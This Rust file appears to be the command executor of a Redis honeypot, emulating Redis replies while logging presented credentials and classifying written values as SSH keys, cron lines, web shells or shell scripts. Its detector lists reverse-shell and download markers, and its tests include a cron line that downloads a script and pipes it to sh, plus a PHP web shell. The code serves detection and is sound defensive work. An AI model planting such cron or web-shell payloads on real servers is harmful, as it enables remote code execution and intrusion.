//! Command execution, sans-IO: [`Session::execute`] takes one command's
//! arguments and returns the reply, leaving what the connection must do about
//! it (a login to record, a payload to keep, the connection to close) in
//! [`Session::effects`]. Lookup and the checks run in Redis's order: unknown
//! command, arity, then authentication.
//!
//! - [`conn`]: AUTH, HELLO, PING, ECHO, SELECT, QUIT, CLIENT
//! - [`keys`]: the keyspace (strings, hashes, lists, expiry, KEYS/SCAN, FLUSH*)
//! - [`server`]: INFO, CONFIG, SAVE/BGSAVE, SLAVEOF/REPLICAOF, MODULE, COMMAND, DBSIZE
//! - [`script`]: EVAL/EVALSHA and SCRIPT

pub mod conn;
pub mod keys;
pub mod script;
pub mod server;

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::OnceLock;

use super::resp::Reply;
use super::state::Shared;

/// Every command of Redis 7.0.15 and its arity (`COMMAND`'s second field);
/// subcommands as `container|sub`.
const COMMANDS: &str = include_str!("../commands.txt");

fn table() -> &'static HashMap<String, i64> {
    static T: OnceLock<HashMap<String, i64>> = OnceLock::new();
    T.get_or_init(|| {
        COMMANDS
            .lines()
            .filter_map(|l| l.split_once(' '))
            .filter_map(|(n, a)| a.parse().ok().map(|a| (n.to_owned(), a)))
            .collect()
    })
}

/// Whether `name` (lower case) is a command of the persona's release.
fn known(sh: &Shared, name: &str) -> Option<i64> {
    if sh.version.major < 6 && matches!(name, "hello" | "acl") {
        return None;
    }
    table().get(name).copied()
}

fn is_container(name: &str) -> bool {
    table()
        .keys()
        .any(|k| k.split_once('|').is_some_and(|(c, _)| c == name))
}

/// `COMMAND COUNT` of the persona's release.
pub fn command_count(sh: &Shared) -> i64 {
    let v = &sh.version;
    match (v.major, v.minor) {
        (5, _) => 200,
        (6, 0) | (6, 1) => 205,
        (6, _) => 224,
        (7, 0) => 240,
        _ => 241,
    }
}

/// What the connection does after a reply.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Effect {
    /// A credential was presented (AUTH, HELLO AUTH).
    Login {
        /// The user (`default` for one-argument AUTH).
        user: Vec<u8>,
        /// The password, exactly.
        password: Vec<u8>,
        /// Whether it was accepted.
        ok: bool,
        /// `AUTH` or `HELLO`.
        via: &'static str,
    },
    /// A value that looks like a payload was written under a key.
    Payload {
        /// The key.
        key: Vec<u8>,
        /// The value.
        value: Vec<u8>,
        /// What it looks like (`ssh_key`, `cron`, `shell_script`, …).
        kind: &'static str,
    },
    /// A field for the command's event (`path` of a SAVE, `master_host` …).
    Field(&'static str, serde_json::Value),
    /// Close after the reply (QUIT).
    Close,
    /// Close without a reply (`POST`/`Host:` cross-protocol attack).
    Drop,
}

/// One connection's state.
#[derive(Debug)]
pub struct Session<'a> {
    /// The server.
    pub sh: &'a Shared,
    /// SELECTed database.
    pub db: usize,
    /// Whether AUTH is done (or not needed).
    pub authed: bool,
    /// The ACL user (`default`).
    pub user: String,
    /// `CLIENT SETNAME`.
    pub name: Vec<u8>,
    /// `CLIENT ID`.
    pub id: u64,
    /// Peer and local address.
    pub peer: SocketAddr,
    /// The address the peer reached.
    pub local: SocketAddr,
    /// When the connection was accepted (ms since the epoch).
    pub created_ms: i64,
    /// Now (ms since the epoch), set before each command.
    pub now_ms: i64,
    /// RESP version HELLO chose.
    pub resp: u8,
    /// What the last command asks of the connection.
    pub effects: Vec<Effect>,
}

/// `-ERR wrong number of arguments for '<name>' command`.
pub fn arity_err(name: &str) -> Reply {
    Reply::err(format!(
        "ERR wrong number of arguments for '{name}' command"
    ))
}

/// `-ERR syntax error`.
pub fn syntax() -> Reply {
    Reply::err("ERR syntax error")
}

/// `-ERR value is not an integer or out of range`.
pub fn not_int() -> Reply {
    Reply::err("ERR value is not an integer or out of range")
}

/// An argument as a number, as Redis's `string2ll` reads it.
pub fn int(a: &[u8]) -> Option<i64> {
    let s = std::str::from_utf8(a).ok()?;
    if s.is_empty()
        || s.starts_with('+')
        || (s.len() > 1 && (s.starts_with('0') || s.starts_with("-0")))
    {
        return None;
    }
    s.parse().ok()
}

/// Lower-case text of an argument.
pub fn lower(a: &[u8]) -> String {
    String::from_utf8_lossy(a).to_ascii_lowercase()
}

impl<'a> Session<'a> {
    /// A session of `sh` for a peer; `authed` when no password is required.
    pub fn new(sh: &'a Shared, peer: SocketAddr, local: SocketAddr, now_ms: i64) -> Session<'a> {
        let id = sh.ids.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        Session {
            sh,
            db: 0,
            authed: sh.requirepass.is_none(),
            user: "default".to_owned(),
            name: Vec::new(),
            id,
            peer,
            local,
            created_ms: now_ms,
            now_ms,
            resp: 2,
            effects: Vec::new(),
        }
    }

    /// The unknown-command error of the persona's release.
    fn unknown(&self, args: &[Vec<u8>]) -> Reply {
        let name =
            String::from_utf8_lossy(args.first().map_or(&[][..], Vec::as_slice)).into_owned();
        let mut list = String::new();
        let seven = self.sh.version.major >= 7;
        for a in args.iter().skip(1) {
            if list.len() >= 128 {
                break;
            }
            let room = 128 - list.len();
            let a = String::from_utf8_lossy(a);
            let a: String = a.chars().take(room).collect();
            if seven {
                list.push_str(&format!("'{a}' "));
            } else {
                list.push_str(&format!("`{a}`, "));
            }
        }
        if seven {
            let name: String = name.chars().take(128).collect();
            Reply::err(format!(
                "ERR unknown command '{name}', with args beginning with: {list}"
            ))
        } else {
            Reply::err(format!(
                "ERR unknown command `{name}`, with args beginning with: {list}"
            ))
        }
    }

    /// The unknown-subcommand error of the persona's release.
    pub fn unknown_sub(&self, container: &str, sub: &[u8]) -> Reply {
        let sub = String::from_utf8_lossy(sub);
        let c = container.to_ascii_uppercase();
        if self.sh.version.major >= 7 {
            let sub: String = sub.chars().take(128).collect();
            Reply::err(format!("ERR unknown subcommand '{sub}'. Try {c} HELP."))
        } else {
            Reply::err(format!(
                "ERR Unknown subcommand or wrong number of arguments for '{sub}'. Try {c} HELP."
            ))
        }
    }

    /// Runs one command (non-empty `args`) and returns its reply.
    pub fn execute(&mut self, args: &[Vec<u8>]) -> Reply {
        self.effects.clear();
        let Some(first) = args.first() else {
            return Reply::Raw(Vec::new());
        };
        let name = lower(first);
        if name == "host:" || name == "post" {
            self.effects.push(Effect::Drop);
            return Reply::Raw(Vec::new());
        }
        let reply = self.checked(&name, args);
        self.account(&name, args, &reply);
        reply
    }

    fn checked(&mut self, name: &str, args: &[Vec<u8>]) -> Reply {
        let Some(arity) = known(self.sh, name) else {
            return self.unknown(args);
        };
        let argc = i64::try_from(args.len()).unwrap_or(i64::MAX);
        let container = is_container(name);
        if container && args.len() >= 2 && self.sh.version.major >= 7 {
            let sub = lower(args.get(1).map_or(&[][..], Vec::as_slice));
            let full = format!("{name}|{sub}");
            match table().get(&full) {
                None => return self.unknown_sub(name, args.get(1).map_or(&[][..], Vec::as_slice)),
                Some(&a) if (a > 0 && a != argc) || argc < -a => return arity_err(&full),
                Some(_) => {}
            }
        }
        if (arity > 0 && arity != argc) || argc < -arity {
            return arity_err(name);
        }
        if !self.authed && !matches!(name, "auth" | "hello" | "quit") {
            return Reply::err("NOAUTH Authentication required.");
        }
        self.dispatch(name, args)
    }

    fn dispatch(&mut self, name: &str, args: &[Vec<u8>]) -> Reply {
        match name {
            "auth" | "hello" | "ping" | "echo" | "select" | "quit" | "client" | "reset" => {
                conn::run(self, name, args)
            }
            "info" | "config" | "save" | "bgsave" | "bgrewriteaof" | "lastsave" | "slaveof"
            | "replicaof" | "module" | "command" | "dbsize" | "time" | "monitor" | "shutdown"
            | "debug" | "acl" | "memory" | "slowlog" | "latency" | "role" | "lolwut" => {
                server::run(self, name, args)
            }
            "eval" | "evalsha" | "eval_ro" | "evalsha_ro" | "script" | "function" | "fcall" => {
                script::run(self, name, args)
            }
            _ => keys::run(self, name, args),
        }
    }

    fn account(&self, name: &str, args: &[Vec<u8>], reply: &Reply) {
        let mut inner = self.sh.lock();
        inner.commands += 1;
        let stat = if is_container(name) && args.len() >= 2 {
            format!(
                "{name}|{}",
                lower(args.get(1).map_or(&[][..], Vec::as_slice))
            )
        } else {
            name.to_owned()
        };
        if known(self.sh, name).is_some() {
            *inner.cmdstats.entry(stat).or_insert(0) += 1;
        }
        if let Reply::Error(e) = reply {
            inner.errors += 1;
            let prefix = e.split(' ').next().unwrap_or("ERR").to_owned();
            *inner.errorstats.entry(prefix).or_insert(0) += 1;
        }
    }

    /// The `-READONLY` refusal of a write while a replica.
    pub fn readonly(&self) -> Option<Reply> {
        self.sh
            .lock()
            .master
            .is_some()
            .then(|| Reply::err("READONLY You can't write against a read only replica."))
    }
}

/// What a written value looks like when it is an intruder's payload: an SSH
/// key for `authorized_keys`, a crontab line, a shell script or a web shell.
pub fn payload_kind(v: &[u8]) -> Option<&'static str> {
    // What gives a payload away is near its start; a huge value is judged by its head.
    let head = v.get(..64 * 1024).unwrap_or(v);
    let t = String::from_utf8_lossy(head);
    let has = |s: &str| t.contains(s);
    if has("ssh-rsa ") || has("ssh-ed25519 ") || has("ecdsa-sha2-") || has("ssh-dss ") {
        return Some("ssh_key");
    }
    if has("<?php") || has("<%@") || has("<?=") {
        return Some("web_shell");
    }
    let cron = t.lines().any(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        f.len() >= 6
            && f.iter().take(5).all(|x| {
                !x.is_empty()
                    && x.bytes()
                        .all(|b| b.is_ascii_digit() || matches!(b, b'*' | b'/' | b',' | b'-'))
            })
    }) || t
        .lines()
        .any(|l| l.trim_start().starts_with('@') && l.contains(' '));
    if cron {
        return Some("cron");
    }
    if v.starts_with(b"\x7fELF") {
        return Some("elf");
    }
    if has("#!/")
        || has("/dev/tcp/")
        || has("bash -i")
        || has("curl ")
        || has("wget ")
        || has("| sh")
        || has("|sh")
        || has("| bash")
        || has("base64 -d")
        || has("nc -e")
    {
        return Some("shell_script");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_are_recognised() {
        assert_eq!(
            payload_kind(b"\n\nssh-rsa AAAAB3Nza x@y\n\n"),
            Some("ssh_key")
        );
        assert_eq!(
            payload_kind(b"\n\n*/1 * * * * curl -fsSL http://x/a.sh | sh\n\n"),
            Some("cron")
        );
        assert_eq!(payload_kind(b"#!/bin/sh\nid\n"), Some("shell_script"));
        assert_eq!(
            payload_kind(b"<?php system($_GET['c']); ?>"),
            Some("web_shell")
        );
        assert_eq!(payload_kind(b"hello"), None);
        assert_eq!(payload_kind(b"1"), None);
    }
}
